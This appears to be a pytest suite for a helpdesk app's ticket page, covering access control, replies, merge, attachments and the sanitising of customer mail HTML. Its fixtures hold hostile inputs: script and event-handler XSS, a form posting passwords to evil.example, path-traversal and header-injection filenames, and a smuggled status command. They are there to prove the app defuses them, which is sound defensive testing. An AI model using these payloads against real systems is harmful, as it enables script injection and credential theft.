"""The ticket page: thread, replies and notes, controls, merge, attachments, mail HTML.

Through the real app and a real database (SQLite and PostgreSQL): customer mail is
taken in by the runtime, agents act through the page's forms, and what would be
sent is read from the outbox."""

from __future__ import annotations

import datetime as dt
import html
import re
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import uvicorn
from playwright.sync_api import expect, sync_playwright

from maildesk.core.message import MAX_BODY_CHARS
from maildesk.store.models import (
    Attachment,
    Event,
    Message,
    Outbox,
    Participant,
    Ticket,
    TicketTag,
)
from maildesk.web.app import create_app
from maildesk.web.detail import sla_targets, summarise
from maildesk.web.pages.ticket import content_disposition
from tests.browser import launch
from tests.conversation import POLICY, customer_mail, new_id
from tests.web_support import PASSWORD, Site, site

PNG = bytes.fromhex(  # 2x2 pixels, red over blue
    "89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a73000000114944415478"
    "9c63f8cfc000440c60f23f001bf203fdf3e74bb10000000049454e44ae426082"
)
BINARY = bytes(range(256)) * 3 + b"\r\n\x00MZ"
HOSTILE_HTML = """<html><head><style>body { display: none }</style>
<script>alert('script')</script></head><body onload="alert('load')">
<p>Hello <b>there</b></p>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">click me</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>
<img src="https://tracker.example/x.png" width="1" height="1">
<img src="cid:logo@customer.test" alt="logo">
</body></html>"""
TRACKER = "https://tracker.example/x.png"


@pytest.fixture
def web(tmp_path: Path, database_url: str) -> Iterator[Site]:
    with site(tmp_path, database_url) as running:
        running.add_agent("ann@example.com", "Ann")
        added = running.cli("agents", "add", "bob@example.com", "--name", "Bob")  # no password
        assert added.exit_code == 0, added.output
        assert running.sign_in("ann@example.com").status_code == 303
        yield running


def open_ticket(web: Site, raw: bytes | None = None) -> str:
    outcome = web.runtime.ingest(raw or customer_mail(), source="test")
    assert outcome.ticket is not None, outcome
    return outcome.ticket


def ticket_row(label: str) -> Ticket:
    return Ticket.get(Ticket.number == int(label.split("-")[1]))


def messages_of(label: str) -> list[Message]:
    return list(Message.select().where(Message.ticket == ticket_row(label)).order_by(Message.id))


def customer_mails(label: str) -> list[Outbox]:
    query = Outbox.select().where(
        (Outbox.ticket == ticket_row(label)) & (Outbox.audience == "customer")
    )
    return list(query.order_by(Outbox.id))


def rich_mail(
    frm: str = "Carl Customer <carl@customer.test>",
    subject: str = "Invoice attached",
    filename: str = '../../evil".exe',
    html: str = HOSTILE_HTML,
) -> bytes:
    """Text and hostile HTML with an inline logo, and a binary attachment."""
    msg = EmailMessage(policy=POLICY)
    msg["From"] = frm
    msg["To"] = "support@example.com"
    msg["Subject"] = subject
    msg["Message-ID"] = new_id()
    msg.set_content("Hello there (text part)\n")
    msg.add_alternative(html, subtype="html")
    html_part = msg.get_payload()[1]
    html_part.add_related(PNG, maintype="image", subtype="png", cid="<logo@customer.test>")
    msg.add_attachment(BINARY, maintype="application", subtype="octet-stream", filename=filename)
    msg.add_attachment(b"<svg onload='alert(1)'/>", maintype="image", subtype="svg+xml",
                       filename="pic.svg")  # fmt: skip
    return msg.as_bytes()


def attachment_of(label: str, filename: str) -> Attachment:
    return (
        Attachment.select()
        .join(Message)
        .where((Message.ticket == ticket_row(label)) & (Attachment.filename == filename))
        .get()
    )


def reply(
    web: Site,
    label: str,
    text: str,
    kind: str = "reply",
    files: list[tuple[str, tuple[str, bytes, str]]] | None = None,
    **extra: object,
) -> Any:
    """Post the reply box (files as multipart uploads)."""
    return web.post(
        f"/tickets/{label}/reply",
        {"text": text, "kind": kind, **extra},
        form_page=f"/tickets/{label}",
        files=files or None,
    )


def update(web: Site, label: str, **fields: object) -> Any:
    return web.post(f"/tickets/{label}/update", fields, form_page=f"/tickets/{label}")


# -- access ----------------------------------------------------------------------------


def test_every_route_needs_a_session(tmp_path: Path, database_url: str) -> None:
    with site(tmp_path, database_url) as web:
        label = open_ticket(web, rich_mail())
        message = messages_of(label)[0]
        attachment = attachment_of(label, "evil_.exe")
        gets = [
            f"/tickets/{label}",
            f"/tickets/{label}/messages/{message.id}/html",
            f"/tickets/{label}/messages/{message.id}/original",
            f"/attachments/{attachment.id}/evil_.exe",
        ]
        for path in gets:
            response = web.client.get(path, follow_redirects=False)
            assert response.status_code == 303, path
            assert response.headers["location"].startswith("/login?next=")
        for path in (f"/tickets/{label}/reply", f"/tickets/{label}/update"):
            response = web.client.post(path, data={"text": "hi"}, follow_redirects=False)
            assert response.status_code == 303 and "/login" in response.headers["location"]
        assert len(messages_of(label)) == 1


def test_unknown_tickets_messages_and_attachments_are_404(web: Site) -> None:
    first = open_ticket(web)
    second = open_ticket(web, rich_mail(frm="Dora <dora@customer.test>"))
    foreign = messages_of(second)[0].id
    assert web.client.get(f"/tickets/{second}/messages/{foreign}/html").status_code == 200
    for path in (
        "/tickets/SUP-99999",
        "/tickets/nonsense",
        "/tickets/OTHER-00001",
        f"/tickets/{first}/messages/{foreign}/html",  # a message of another ticket
        f"/tickets/{first}/messages/{messages_of(first)[0].id}/html",  # no HTML part
        f"/tickets/{first}/messages/99999999999999999999999/html",
        f"/tickets/{first}/messages/{foreign}/original",  # a message of another ticket
        f"/tickets/{first}/messages/99999999999999999999999/original",
        "/attachments/424242/x.bin",
        "/attachments/99999999999999999999999/x.bin",
    ):
        assert web.client.get(path).status_code == 404, path
    assert reply(web, "SUP-99999", "hello").status_code == 404


def test_a_long_message_is_clipped_on_the_page_and_whole_in_its_original(web: Site) -> None:
    lines = [f"log line {n:07d}: disk quota exceeded on volume {n % 7}" for n in range(40_000)]
    msg = EmailMessage(policy=POLICY)
    msg["From"] = "Carl Customer <carl@customer.test>"
    msg["To"] = "support@example.com"
    msg["Subject"] = "Our whole log"
    msg["Message-ID"] = new_id()
    msg.set_content("\n".join(lines) + "\n")
    raw = msg.as_bytes()
    assert len(raw) > MAX_BODY_CHARS
    label = open_ticket(web, raw)
    [message] = messages_of(label)
    assert len(message.body_text) < MAX_BODY_CHARS + 200
    assert lines[0] in message.body_text and lines[-1] not in message.body_text
    assert message.body_text.endswith("The original message holds all of it.]")
    page = web.client.get(f"/tickets/{label}").text
    link = f"/tickets/{label}/messages/{message.id}/original"
    assert f'<a href="{link}" download>Original message</a>' in page
    original = web.client.get(link)
    assert original.status_code == 200
    assert original.headers["content-type"] == "message/rfc822"
    assert original.headers["content-disposition"].startswith("attachment;")
    assert original.content == raw  # every byte, the last log line included


# -- the page --------------------------------------------------------------------------


def test_thread_shows_customer_agent_and_note_entries(web: Site) -> None:
    label = open_ticket(web, customer_mail(cc="Erin <erin@customer.test>"))
    assert reply(web, label, "We are looking into it.").status_code == 303
    assert reply(web, label, "Printer model is X-1000.", kind="note").status_code == 303
    autoreply = customer_mail(
        frm="Bob <bob@example.com>",
        subject=f"Re: [{label}] Out of office",
        body="#status closed\n\nI am away.",
        headers={"Auto-Submitted": "auto-replied"},
    )
    web.runtime.ingest(autoreply, source="test")  # kept as a flagged note, never obeyed
    page = web.client.get(f"/tickets/{label}")
    assert page.status_code == 200
    entries = re.findall(r'<li class="entry (\w+)" id="m\d+">', page.text)
    assert entries == ["customer", "agent", "note", "note"]
    flagged = page.text[page.text.rindex('<li class="entry note"') :]
    assert '<span class="badge breached">flagged</span>' in flagged
    assert "automatic mail from an agent" in flagged and "I am away." in flagged
    text = page.text
    assert text.index("my printer is on fire") < text.index("We are looking into it.")
    assert text.index("We are looking into it.") < text.index("Printer model is X-1000.")
    assert "erin@customer.test" in text  # a CC of the ticket and of the first mail
    assert "Carl Customer &lt;carl@customer.test&gt;" in text
    assert "First response due" in text and "Resolution due" in text
    assert "message added" in text  # the event log


def test_a_reply_is_mailed_and_a_note_is_not(web: Site) -> None:
    label = open_ticket(web)
    before = len(customer_mails(label))
    response = reply(web, label, "#priority high\n\nWe are on it.")
    assert response.status_code == 303 and response.headers["location"] == f"/tickets/{label}"
    message = messages_of(label)[-1]
    assert (message.kind, message.direction) == ("agent", "outbound")
    assert message.body_text == "We are on it."
    assert message.from_email == "ann@example.com"
    sent = customer_mails(label)[before:]
    assert [row.purpose for row in sent] == ["agent_reply"]
    assert sent[0].recipients == ["carl@customer.test"]
    ticket = ticket_row(label)
    assert ticket.priority == "high" and ticket.first_response_at is not None

    assert reply(web, label, "Customer sounds upset.", kind="note").status_code == 303
    note = messages_of(label)[-1]
    assert note.kind == "note" and note.body_text == "Customer sounds upset."
    assert len(customer_mails(label)) == before + 1  # still just the reply


def test_a_canned_response_and_files_go_with_the_reply(web: Site) -> None:
    label = open_ticket(web)
    files = [
        ("files", ("log.txt", b"line 1\nline 2\n", "text/plain")),
        ("files", ("../shot.png", PNG, "image/png")),
    ]
    response = reply(web, label, "", template="thanks", files=files)
    assert response.status_code == 303
    message = messages_of(label)[-1]
    assert message.kind == "agent" and "Thank you for letting us know" in message.body_text
    stored = {a.filename: a for a in Attachment.select().where(Attachment.message == message)}
    assert set(stored) == {"log.txt", "shot.png"}
    assert stored["shot.png"].size == len(PNG)
    assert customer_mails(label)[-1].purpose == "agent_reply"
    unknown = reply(web, label, "Hi", template="no-such-response")
    assert unknown.status_code == 422 and "no canned response" in unknown.text


def test_uploads_over_the_limit_are_refused(tmp_path: Path, database_url: str) -> None:
    extra = "[web]\nport = 0\nmax_upload_size = 2048\n"
    with site(tmp_path, database_url, extra=extra) as web:
        web.add_agent("ann@example.com", "Ann")
        web.sign_in("ann@example.com")
        label = open_ticket(web)
        files = [("files", ("big.bin", b"x" * 1500, "application/octet-stream"))] * 2
        response = reply(web, label, "Two files", files=files)
        assert response.status_code == 413
        assert "too large" in response.text and ">Two files</textarea>" in response.text
        huge = [("files", ("huge.bin", b"x" * 300_000, "application/octet-stream"))]
        assert reply(web, label, "One huge file", files=huge).status_code == 413
        assert len(messages_of(label)) == 1


def test_refused_changes_change_nothing(web: Site) -> None:
    label = open_ticket(web)
    before = (len(messages_of(label)), Outbox.select().count(), ticket_row(label).status)
    response = reply(web, label, "#priority high\n#status nonsense\n\nDone <soon>")
    assert response.status_code == 422
    assert "unknown status" in response.text
    assert "#status nonsense\n\nDone &lt;soon&gt;</textarea>" in response.text  # kept
    ticket = ticket_row(label)
    assert (len(messages_of(label)), Outbox.select().count(), ticket.status) == before
    assert ticket.priority == "medium"
    assert not Event.select().where(Event.type == "priority_changed").exists()

    controls = update(web, label, priority="high", assignee="nobody-such@example.com")
    assert controls.status_code == 422 and "not an active agent" in controls.text
    ticket = ticket_row(label)
    assert ticket.priority == "medium" and ticket.assignee_id is None
    injected = update(web, label, category="Billing\n#status closed")  # one line, one command
    assert injected.status_code == 422 and ticket_row(label).status == "new"
    empty = reply(web, label, "  \n ")
    assert empty.status_code == 422 and "nothing to send" in empty.text
    assert reply(web, label, "Hello", kind="broadcast").status_code == 400
    assert len(messages_of(label)) == 1


def test_posts_without_the_csrf_token_are_refused(web: Site) -> None:
    label = open_ticket(web)
    for path, data in (
        (f"/tickets/{label}/reply", {"text": "hi", "kind": "reply"}),
        (f"/tickets/{label}/update", {"status": "closed"}),
    ):
        assert web.client.post(path, data=data).status_code == 403
        forged = web.client.post(path, data={**data, "csrf": "forged"})
        assert forged.status_code == 403
    assert len(messages_of(label)) == 1 and ticket_row(label).status == "new"


# -- controls --------------------------------------------------------------------------


def test_controls_change_the_ticket_and_log_it(web: Site) -> None:
    label = open_ticket(web)
    page = web.client.get(f"/tickets/{label}").text
    assert '<option value="bob@example.com">Bob</option>' in page
    response = update(
        web,
        label,
        status="in_progress",
        was_status="new",
        priority="urgent",
        was_priority="medium",
        assignee="bob@example.com",
        was_assignee="none",
        category="Billing",
        was_category="",
        tags="vip printer",
        cc_add="dora@customer.test",
    )
    assert response.status_code == 303
    ticket = ticket_row(label)
    assert (ticket.status, ticket.priority, ticket.category) == ("in_progress", "urgent", "Billing")
    assert ticket.assignee.email == "bob@example.com"
    tags = TicketTag.select().where(TicketTag.ticket == ticket)
    assert sorted(t.tag for t in tags) == ["printer", "vip"]
    assert Participant.select().where(Participant.ticket == ticket).count() == 2
    types = {e.type for e in Event.select().where(Event.ticket == ticket)}
    assert {"status_changed", "priority_changed", "assigned", "category_changed"} <= types
    assert {"tags_changed", "cc_added"} <= types
    page = web.client.get(f"/tickets/{label}").text
    assert "medium → urgent" in page and "category changed" in page

    # A page loaded before a change (it showed `new`) does not undo it.
    update(web, label, status="new", was_status="new", assignee="me", was_assignee="none")
    ticket = ticket_row(label)
    assert ticket.status == "in_progress" and ticket.assignee.email == "ann@example.com"
    update(
        web, label, tags="-vip", cc_remove="dora@customer.test", category="", was_category="Billing"
    )
    ticket = ticket_row(label)
    assert ticket.category is None and ticket.status == "in_progress"
    assert [t.tag for t in TicketTag.select().where(TicketTag.ticket == ticket)] == ["printer"]
    assert Participant.select().where(Participant.ticket == ticket).count() == 1


def test_merge_moves_the_thread_and_redirects(web: Site) -> None:
    old = open_ticket(web)
    survivor = open_ticket(web, customer_mail(frm="Carl <carl@customer.test>", subject="Again"))
    assert update(web, old, merge=survivor).status_code == 303
    assert messages_of(old) == []
    assert len(messages_of(survivor)) == 2
    response = web.client.get(f"/tickets/{old}", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"] == f"/tickets/{survivor}"
    page = web.client.get(f"/tickets/{survivor}").text
    assert "my printer is on fire" in page and f"ticket: {old}" in page
    late = reply(web, old, "Typed on the old page")
    assert late.status_code == 409 and ">Typed on the old page</textarea>" in late.text
    assert len(messages_of(survivor)) == 2
    itself = update(web, survivor, merge=survivor)
    assert itself.status_code == 422 and "that is this ticket" in itself.text


# -- attachments and mail HTML -----------------------------------------------------------


def test_attachments_download_byte_identical_and_only_images_show(web: Site) -> None:
    label = open_ticket(web, rich_mail())
    stored = attachment_of(label, "evil_.exe")
    page = web.client.get(f"/tickets/{label}").text
    assert f'href="/attachments/{stored.id}/evil_.exe" download>evil_.exe</a>' in page
    assert f"application/octet-stream · {len(BINARY)} bytes" in page
    for query in ("", "?inline=1"):
        response = web.client.get(f"/attachments/{stored.id}/evil_.exe{query}")
        assert response.status_code == 200
        assert response.content == BINARY
        assert response.headers["content-type"] == "application/octet-stream"
        disposition = response.headers["content-disposition"]
        assert disposition.startswith("attachment; filename=")
        name = re.search(r'filename="([^"]*)"', disposition)
        assert name is not None and "/" not in name.group(1) and "\\" not in name.group(1)
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"

    logo = Attachment.get(Attachment.content_id == "logo@customer.test")
    shown = web.client.get(f"/attachments/{logo.id}/x.png?inline=1")
    assert shown.headers["content-type"] == "image/png" and shown.content == PNG
    assert shown.headers["content-disposition"].startswith("inline;")
    assert shown.headers["x-content-type-options"] == "nosniff"
    downloaded = web.client.get(f"/attachments/{logo.id}/x.png")
    assert downloaded.headers["content-type"] == "application/octet-stream"
    svg = attachment_of(label, "pic.svg")
    refused = web.client.get(f"/attachments/{svg.id}/pic.svg?inline=1")
    assert refused.headers["content-type"] == "application/octet-stream"
    assert refused.headers["content-disposition"].startswith("attachment;")


def test_mail_html_is_served_sanitised_under_a_strict_policy(web: Site) -> None:
    label = open_ticket(web, rich_mail())
    message = messages_of(label)[0]
    logo = Attachment.get(Attachment.content_id == "logo@customer.test")
    page = web.client.get(f"/tickets/{label}").text
    frame = re.search(r"<iframe ([^>]*)>", page)
    assert frame is not None
    assert f'src="/tickets/{label}/messages/{message.id}/html"' in frame.group(1)
    sandbox = re.search(r'sandbox="([^"]*)"', frame.group(1))
    assert sandbox is not None
    assert "allow-scripts" not in sandbox.group(1) and "allow-same-origin" not in sandbox.group(1)
    assert "<details><summary>Plain text</summary>" in page
    assert f'href="/tickets/{label}/messages/{message.id}/html?remote=1"' in page

    response = web.client.get(f"/tickets/{label}/messages/{message.id}/html")
    assert response.status_code == 200
    body = response.text.lower()
    assert "<p>hello <b>there</b></p>" in body
    for gone in ("<script", "alert(", "onload", "onerror", "javascript:", "<iframe", "<form",
                 "<input", "evil.example", "tracker.example", "display: none"):  # fmt: skip
        assert gone not in body, gone
    image = re.search(rf'src="(/attachments/{logo.id}/[^"]*)"', response.text)
    assert image is not None  # the cid: reference, pointing at the message's own part
    image_url = html.unescape(image.group(1))
    assert image_url.startswith(f"/attachments/{logo.id}/{quote(logo.filename)}?inline=1&")
    assert 'rel="noopener noreferrer"' in body and 'target="_blank"' in body
    assert "show remote images" in body and 'href="?remote=1"' in body
    csp = response.headers["content-security-policy"]
    assert "default-src 'none'" in csp and "img-src 'self' data:;" in csp
    assert "frame-ancestors 'self'" in csp and "sandbox" in csp and "script-src" not in csp
    assert "https:" not in csp
    assert response.headers["x-frame-options"] == "SAMEORIGIN"

    remote = web.client.get(f"/tickets/{label}/messages/{message.id}/html?remote=1")
    assert 'src="https://tracker.example/x.png"' in remote.text
    assert "<script" not in remote.text and "show remote images" not in remote.text.lower()
    assert "img-src 'self' data: https: http:" in remote.headers["content-security-policy"]

    # The sandboxed frame's image requests carry no session cookie: its image URLs are
    # signed, for that one image and only to show it.
    web.client.cookies.clear()
    shown = web.client.get(image_url)
    assert shown.status_code == 200 and shown.content == PNG
    assert shown.headers["content-type"] == "image/png"
    for forged in (
        image_url.replace("token=", "token=0"),
        re.sub(r"token=\w+", "token=%C3%A9", image_url),
        image_url.replace("inline=1&", ""),
        image_url.replace(f"/attachments/{logo.id}/", f"/attachments/{logo.id + 1}/"),
        re.sub(r"expires=\d+", "expires=99999999999", image_url),
    ):
        assert web.client.get(forged, follow_redirects=False).status_code == 303, forged


def test_user_text_renders_inert(web: Site) -> None:
    raw = rich_mail(
        frm='"<img src=x onerror=alert(1)>" <mallory@customer.test>',
        subject='<script>alert("subject")</script>',
        filename="a&b'<svg onload=alert(2)>.txt",
    )
    label = open_ticket(web, raw)
    web.runtime.ingest(
        customer_mail(
            frm="Mallory <mallory@customer.test>",
            subject=f"Re: [{label}] more",
            body="<b onmouseover=alert(3)>body</b>",
        ),
        source="test",
    )
    page = web.client.get(f"/tickets/{label}").text
    for raw_text in ("<script>alert", "<img src=x", "<svg onload", "<b onmouseover"):
        assert raw_text not in page, raw_text
    assert "&lt;script&gt;alert(&#34;subject&#34;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;b onmouseover=alert(3)&gt;body&lt;/b&gt;" in page
    assert "a&amp;b&#39;" in page


# -- the pure helpers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("stored", "fallback", "encoded"),
    [
        ("report.pdf", "report.pdf", "report.pdf"),
        ('../../evil".exe', "_.._evil_.exe", "_.._evil%22.exe"),
        ("a\\b\r\nContent-Type: text/html", "a_b__Content-Type_ text_html", None),
        ("Grüße; x.txt", "Gr__e_ x.txt", "Gr%C3%BC%C3%9Fe%3B%20x.txt"),
        ("", "attachment", "attachment"),
    ],
)
def test_content_disposition_names_are_safe(
    stored: str, fallback: str, encoded: str | None
) -> None:
    header = content_disposition("attachment", stored)
    assert header.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
    if encoded is not None:
        assert header.endswith(encoded)
    assert "\r" not in header and "\n" not in header and "/" not in header


def test_sla_targets_and_summaries() -> None:
    now = dt.datetime(2026, 5, 4, 12, 0, tzinfo=dt.UTC)
    hour = dt.timedelta(hours=1)
    ticket = Ticket(
        status="open",
        first_response_due=now - hour,
        first_response_at=now - 2 * hour,
        resolution_due=now + 3 * hour,
        resolution_warn_at=now - hour,
    )
    first, resolution = sla_targets(ticket, now)
    assert (first.state, first.text) == ("met", "met")
    assert (resolution.state, resolution.text) == ("risk", "due in 3h 00m")
    ticket.first_response_at, ticket.resolution_due = now, now - hour
    first, resolution = sla_targets(ticket, now)
    assert first.state == "missed" and resolution.state == "breached"
    assert resolution.text == "1h 00m overdue"
    ticket.resolution_due, ticket.sla_paused_at = now + hour, now
    assert sla_targets(ticket, now)[1].state == "paused"
    ticket.status = "resolved"
    assert [target.state for target in sla_targets(ticket, now)] == ["missed", "none"]
    assert summarise({"before": None, "after": "ann@example.com"}) == "— → ann@example.com"
    assert summarise({"added": ["a", "b"], "removed": []}) == "added: a b"
    assert summarise({"errors": ["x" * 500]}).endswith("…")


# -- in a real browser -------------------------------------------------------------------


@contextmanager
def served(web: Site) -> Iterator[str]:
    """The site's app on a loopback port (uvicorn in a thread); yields its base URL."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(create_app(web.web), log_level="warning"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.02)
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        listener.close()


def test_the_mail_frame_in_chromium(web: Site) -> None:
    """What a test client cannot see: the sandboxed frame runs nothing, shows its inline
    image (its requests carry no session cookie) and hides the remote one until asked."""
    # The "remote" image is on loopback (a closed port): the browser may only try there.
    remote = "http://127.0.0.1:9/x.png"
    label = open_ticket(web, rich_mail(html=HOSTILE_HTML.replace(TRACKER, remote)))
    with served(web) as base, sync_playwright() as playwright:
        browser = launch(playwright)
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(f"{base}/login?next=/tickets/{label}")
        page.fill("input[name=email]", "ann@example.com")
        page.fill("input[name=password]", PASSWORD)
        page.click("form[action='/login'] button[type=submit]")
        frame = page.frame_locator("iframe")
        expect(frame.locator("b")).to_have_text("there")
        logo = frame.locator("img[alt=logo]")
        expect(logo).to_have_js_property("complete", True)
        assert logo.evaluate("img => img.naturalWidth") == 2  # the cid: image, loaded
        hidden = frame.locator("img[src^='data:image/svg+xml']")
        expect(hidden).to_have_count(1)  # the tracker's placeholder
        page.click("text=Show remote images")
        expect(frame.locator(f"img[src='{remote}']")).to_have_count(1)
        browser.close()
    assert dialogs == []
